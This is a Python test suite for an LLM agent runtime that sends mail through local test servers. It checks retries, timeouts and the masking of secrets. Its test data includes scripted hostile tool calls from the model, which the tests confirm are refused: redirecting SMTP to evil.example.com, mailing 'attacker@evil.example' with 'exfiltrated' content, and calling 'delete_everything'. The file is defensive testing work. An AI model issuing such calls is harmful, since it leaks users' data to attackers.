"""The agent through the real ``openai`` SDK, talking HTTP to a local
OpenAI-compatible server, sending real mail to a local SMTP server."""

from __future__ import annotations

import json

import pytest

from runtime.tools import agent_tool_specs
from tests.servers.flows import AI_SCOPE, agent_flow, fixed, registry, run
from tests.servers.llm import LlmServer, error_body, openai_reply
from tests.servers.smtp import SmtpServer

API_KEY = "sk-test-0penai-K3Y-must-not-leak"
SMTP_PASSWORD = "smtp-pa55word-must-not-leak"

# The test SMTP server takes AUTH over plain loopback on purpose.
pytestmark = pytest.mark.filterwarnings("ignore:Requiring AUTH while not requiring TLS")


@pytest.fixture
def llm():
    with LlmServer() as server:
        yield server


@pytest.fixture
def smtp():
    with SmtpServer(username="bot", password=SMTP_PASSWORD) as server:
        yield server


@pytest.fixture(autouse=True)
def _secrets(monkeypatch):
    monkeypatch.setenv("TEST_OPENAI_KEY", API_KEY)
    monkeypatch.setenv("TEST_SMTP_PASSWORD", SMTP_PASSWORD)


def openai_agent(llm: LlmServer, **extra) -> dict:
    params = {"provider": fixed("openai"), "model": fixed("gpt-test"),
              "base_url": fixed(llm.openai_url), "api_key_env": fixed("TEST_OPENAI_KEY"),
              "instructions": fixed("You send mail.")}
    params.update({k: fixed(v) for k, v in extra.items()})
    return params


def mail_tool(smtp: SmtpServer) -> dict:
    return {"id": "mail", "type": "mail.send", "params": {
        "to": AI_SCOPE, "subject": AI_SCOPE, "body": AI_SCOPE,
        "sender": fixed("assistant@example.com"),
        "smtp_host": fixed("127.0.0.1"), "smtp_port": fixed(smtp.port),
        "username": fixed("bot"), "password": fixed({"env": "TEST_SMTP_PASSWORD"})}}


async def test_parallel_tool_calls_send_real_mail_with_ai_and_designer_values(llm, smtp):
    llm.replies = [
        openai_reply(tool_calls=[
            ("send_email", {"to": "ann@example.com", "subject": "Shipped", "body": "Your order shipped."}),
            ("send_email", {"to": "bob@example.com", "subject": "Delayed", "body": "Sorry, delayed."}),
            ("send_email", {"to": "eve@example.com", "subject": "x", "body": "y",
                            "smtp_host": "evil.example.com"}),
        ], usage=(100, 30)),
        openai_reply("I emailed Ann and Bob.", usage=(200, 10)),
    ]
    flow = agent_flow(openai_agent(llm), [mail_tool(smtp)], prompt="Tell Ann and Bob")
    result, rec, _ = await run(flow)
    assert result.status == "ok", rec.of("node.error")

    # Real mail, with the AI's arguments and the designer's fixed values.
    assert sorted(m["To"] for m in smtp.messages) == ["ann@example.com", "bob@example.com"]
    ann = next(m for m in smtp.messages if m["To"] == "ann@example.com")
    assert ann["Subject"] == "Shipped"
    assert ann.get_payload().strip() == "Your order shipped."
    assert ann["From"] == "assistant@example.com"
    assert smtp.logins == ["bot", "bot"]
    # The hostile call was refused: no mail to eve, and the LLM was told why.
    assert not any("eve@example.com" in r["rcpt_tos"] for r in smtp.received)

    first, second = (r["body"] for r in llm.requests)
    assert first["model"] == "gpt-test"
    assert first["messages"][0] == {"role": "system", "content": "You send mail."}
    assert first["messages"][1] == {"role": "user", "content": "Tell Ann and Bob"}
    # The tools the LLM saw are exactly what `switchboard tools` prints.
    assert first["tools"] == agent_tool_specs(flow, registry())["agent"]
    assert set(first["tools"][0]["function"]["parameters"]["properties"]) == {"to", "subject", "body"}
    tool_msgs = [m for m in second["messages"] if m["role"] == "tool"]
    assistant = next(m for m in second["messages"] if m["role"] == "assistant")
    assert [m["tool_call_id"] for m in tool_msgs] == [c["id"] for c in assistant["tool_calls"]]
    assert json.loads(tool_msgs[0]["content"])["accepted"] == ["ann@example.com"]
    assert "refused" in tool_msgs[2]["content"] and "smtp_host" in tool_msgs[2]["content"]

    [msg] = rec.debug_values()
    assert msg["payload"] == "I emailed Ann and Bob."
    assert msg["agent"]["turns"] == 2
    assert msg["agent"]["usage"] == {"input_tokens": 300, "output_tokens": 40}
    assert [c["status"] for c in msg["agent"]["tool_calls"]] == ["success", "success", "refused"]
    assert msg["agent"]["tool_calls"][0]["data"]["message_id"].startswith("<")

    # The key went only into the Authorization header; no secret anywhere else.
    assert llm.requests[0]["headers"]["authorization"] == f"Bearer {API_KEY}"
    dump = rec.dump()
    assert API_KEY not in dump and SMTP_PASSWORD not in dump
    assert API_KEY not in flow.dumps() and SMTP_PASSWORD not in flow.dumps()
    sent = json.dumps([r["body"] for r in llm.requests])  # what the LLM received
    assert API_KEY not in sent and SMTP_PASSWORD not in sent
    for kind in ("llm.request", "llm.response", "tool.call", "tool.result"):
        assert rec.of(kind)


async def test_429_and_5xx_are_retried(llm):
    llm.replies = [(429, error_body("openai", 429, "slow down")),
                   (500, error_body("openai", 500, "oops")),
                   openai_reply("fine")]
    flow = agent_flow(openai_agent(llm), [])
    result, rec, _ = await run(flow)
    assert result.status == "ok", rec.of("node.error")
    assert rec.debug_values()[0]["payload"] == "fine"
    assert len(llm.requests) == 3
    assert "tools" not in llm.requests[0]["body"]


async def test_final_failure_names_provider_and_status_never_the_key(llm):
    llm.replies = lambda kind, body: (503, error_body(kind, 503, f"backend down for key {API_KEY}"))
    flow = agent_flow(openai_agent(llm, retries=2), [])
    result, rec, _ = await run(flow)
    assert result.status == "error"
    [err] = rec.of("node.error")
    assert err.node == "agent"
    assert err.message.startswith("openai: HTTP 503: backend down for key ***")
    assert "gave up after 3 attempts" in err.message
    assert len(llm.requests) == 3
    assert API_KEY not in rec.dump()


async def test_client_errors_are_not_retried(llm):
    llm.replies = [(401, error_body("openai", 401, "Incorrect API key provided"))]
    result, rec, _ = await run(agent_flow(openai_agent(llm), []))
    assert result.status == "error"
    assert rec.of("node.error")[0].message == "openai: HTTP 401: Incorrect API key provided"
    assert len(llm.requests) == 1


async def test_missing_key_is_named_by_its_env_var(monkeypatch):
    monkeypatch.delenv("OPENAI_API_KEY", raising=False)
    flow = agent_flow({"provider": fixed("openai")}, [])
    result, rec, _ = await run(flow)
    assert result.status == "error"
    assert "OPENAI_API_KEY is not set" in rec.of("node.error")[0].message


async def test_bad_json_arguments_from_the_model_are_refused(llm, smtp):
    llm.replies = [openai_reply(tool_calls=[("send_email", '{"to": "a@example.com", ')]),
                   openai_reply(tool_calls=[("delete_everything", {})]),
                   openai_reply("ok")]
    result, rec, _ = await run(agent_flow(openai_agent(llm), [mail_tool(smtp)]))
    assert result.status == "ok"
    assert [r.status for r in rec.of("tool.result")] == ["refused", "refused"]
    assert "not valid JSON" in rec.of("tool.result")[0].error
    assert "unknown tool 'delete_everything'" in rec.of("tool.result")[1].error
    assert smtp.received == []
    # The model's own text for the bad call goes back to it unchanged.
    assistant = next(m for m in llm.requests[1]["body"]["messages"] if m["role"] == "assistant")
    assert assistant["tool_calls"][0]["function"]["arguments"] == '{"to": "a@example.com", '


async def test_a_fixed_recipient_cannot_be_changed_by_the_model(llm, smtp):
    tool = mail_tool(smtp)
    tool["params"]["to"] = fixed("ops@example.com")  # the designer toggled `to` from ai to custom
    llm.replies = [
        openai_reply(tool_calls=[("send_email", {"to": "attacker@evil.example", "subject": "s",
                                                 "body": "exfiltrated"})]),
        openai_reply(tool_calls=[("send_email", {"subject": "Status", "body": "All good"})]),
        openai_reply("sent"),
    ]
    flow = agent_flow(openai_agent(llm), [tool])
    result, rec, _ = await run(flow)
    assert result.status == "ok", rec.of("node.error")
    schema = llm.requests[0]["body"]["tools"][0]["function"]["parameters"]
    assert set(schema["properties"]) == {"subject", "body"}
    assert [r.status for r in rec.of("tool.result")] == ["refused", "success"]
    assert "unknown argument 'to'" in rec.of("tool.result")[0].error
    [got] = smtp.received
    assert got["rcpt_tos"] == ["ops@example.com"]
    assert got["message"]["Subject"] == "Status"


# -- hardening (issue 5) --------------------------------------------------------

@pytest.fixture
def sleeps(monkeypatch):
    """The waits between attempts, recorded instead of slept."""
    from runtime.agent import base

    asked: list[float] = []

    async def record(seconds: float) -> None:
        asked.append(seconds)

    monkeypatch.setattr(base, "_sleep", record, raising=False)
    return asked


@pytest.mark.parametrize(("header", "value", "wait"), [("retry-after", "7", 7.0),
                                                      ("retry-after-ms", "1500", 1.5)])
async def test_retry_after_is_honoured_in_full(llm, sleeps, header, value, wait):
    llm.replies = [(429, error_body("openai", 429, "slow down"), {header: value}),
                   openai_reply("fine")]
    result, rec, _ = await run(agent_flow(openai_agent(llm), []))
    assert result.status == "ok", rec.of("node.error")
    assert sleeps == [wait]  # what the server asked, not a shorter backoff
    assert len(llm.requests) == 2


async def test_retry_after_past_max_retry_wait_fails_at_once(llm, sleeps):
    llm.replies = [(429, error_body("openai", 429, "slow down"), {"retry-after": "45"}),
                   openai_reply("too early")]
    flow = agent_flow(openai_agent(llm, max_retry_wait_seconds=30), [])
    result, rec, _ = await run(flow)
    assert result.status == "error"
    assert rec.of("node.error")[0].message == (
        "openai: HTTP 429: slow down (the server asked to retry after 45 s, more than "
        "max_retry_wait_seconds=30)")
    assert sleeps == [] and len(llm.requests) == 1  # not retried early


async def test_backoff_without_retry_after_stays_within_max_retry_wait(llm, sleeps, monkeypatch):
    monkeypatch.setenv("SWITCHBOARD_RETRY_BASE", "10")
    llm.replies = [(503, error_body("openai", 503, "busy")), openai_reply("ok")]
    result, rec, _ = await run(agent_flow(openai_agent(llm, max_retry_wait_seconds=2), []))
    assert result.status == "ok", rec.of("node.error")
    assert sleeps == [2.0]


async def test_a_stalled_server_fails_naming_request_timeout_seconds(llm):
    import threading

    release = threading.Event()

    def stall(kind, body):
        release.wait(10)  # far past the timeout; released when the test ends
        return openai_reply("too late")

    llm.replies = stall
    try:
        flow = agent_flow(openai_agent(llm, request_timeout_seconds=0.5, retries=0), [])
        result, rec, engine = await run(flow)
    finally:
        release.set()
    assert result.status == "error"
    assert rec.of("node.error")[0].message == (
        "openai: request failed: timed out: the server did not answer within "
        "request_timeout_seconds=0.5")
    assert len(llm.requests) == 1


async def test_llm_failure_after_a_tool_call_names_what_already_happened(llm, tmp_path):
    llm.replies = [openai_reply(tool_calls=[("send_email", {"to": "john@example.com",
                                                           "subject": "Shipped",
                                                           "body": "Your order shipped."})])]
    llm.replies += [(500, error_body("openai", 500, "oops"))] * 2
    tool = {"id": "mail", "type": "mail.send", "params": {
        "to": AI_SCOPE, "subject": AI_SCOPE, "body": AI_SCOPE, "delivery": fixed("outbox"),
        "outbox_dir": fixed(str(tmp_path))}}
    result, rec, _ = await run(agent_flow(openai_agent(llm, retries=1), [tool]))
    assert result.status == "error"
    assert len(list(tmp_path.glob("*.eml"))) == 1  # the mail went out
    assert rec.of("node.error")[0].message == (
        "openai: HTTP 500: oops (gave up after 2 attempts) (after 1 successful tool call: "
        "send_email(to=john@example.com…))")


async def test_an_unexpected_exception_text_never_reaches_the_llm(llm):
    from runtime.node import AI, Node, Param, Tool, node
    from runtime.registry import Registry

    @node("test.oserror", name="OS error", category="Test", tool=Tool("lookup", "Looks up"))
    class OsErrorTool(Node):
        key = Param(str, "What to look up", scope=AI)

        async def on_message(self, msg):
            raise OSError("/home/alice/secret/path db.internal.example")

    llm.replies = [openai_reply(tool_calls=[("lookup", {"key": "k"})]), openai_reply("sorry")]
    flow = agent_flow(openai_agent(llm), [{"id": "look", "type": "test.oserror",
                                           "params": {"key": AI_SCOPE}}])
    result, rec, _ = await run(flow, reg=Registry([*registry(), OsErrorTool]))
    assert result.status == "ok", rec.of("node.error")
    sent = json.dumps(llm.requests[1]["body"])  # what the LLM received
    assert "OSError: the tool failed unexpectedly" in sent
    assert "/home/alice" not in sent and "db.internal.example" not in sent
    [err] = rec.of("node.error")
    assert err.node == "look" and "/home/alice/secret/path db.internal.example" in err.message


async def test_a_secret_the_model_repeats_is_masked(llm, tmp_path):
    from runtime.node import register_secret

    secret = "sk-live-R3PEATED-by-the-model-9876"
    register_secret(secret)  # as resolving a node's secret param would
    llm.replies = [openai_reply(f"Checking {secret}", tool_calls=[
                       ("send_email", {"to": "a@example.com", "subject": secret, "body": "b"})]),
                   openai_reply(f"The key is {secret}.")]
    tool = {"id": "mail", "type": "mail.send", "params": {
        "to": AI_SCOPE, "subject": AI_SCOPE, "body": AI_SCOPE, "delivery": fixed("outbox"),
        "outbox_dir": fixed(str(tmp_path))}}
    result, rec, _ = await run(agent_flow(openai_agent(llm), [tool]))
    assert result.status == "ok", rec.of("node.error")
    [msg] = rec.debug_values()
    assert msg["payload"] == "The key is ***."
    assert msg["agent"]["tool_calls"][0]["args"]["subject"] == "***"
    first = rec.of("llm.response")[0]
    assert first.text == "Checking ***" and "***" in json.dumps(first.tool_calls)
    assert rec.of("tool.call")[0].args["subject"] == "***"
    # (The periodic stats event's snapshot of the tool node's last messages
    # is the engine's to mask, not the agent's.)
    assert not [e.type for e in rec.events if e.type != "stats" and secret in e.model_dump_json()]
